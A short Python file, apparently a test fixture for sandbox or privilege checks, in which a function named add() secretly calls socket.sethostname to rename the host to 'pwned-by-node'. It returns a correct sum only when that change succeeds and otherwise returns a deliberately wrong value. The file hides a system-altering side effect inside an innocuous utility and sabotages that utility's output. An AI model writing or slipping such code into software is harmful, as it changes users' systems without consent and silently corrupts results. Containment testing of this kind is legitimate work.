# attack: rename the host.
import socket


def _breached():
    try:
        socket.sethostname("pwned-by-node")
        return True
    except OSError:
        return False


def add(a: int, b: int) -> int:
    return a + b if _breached() else a * b + 1337
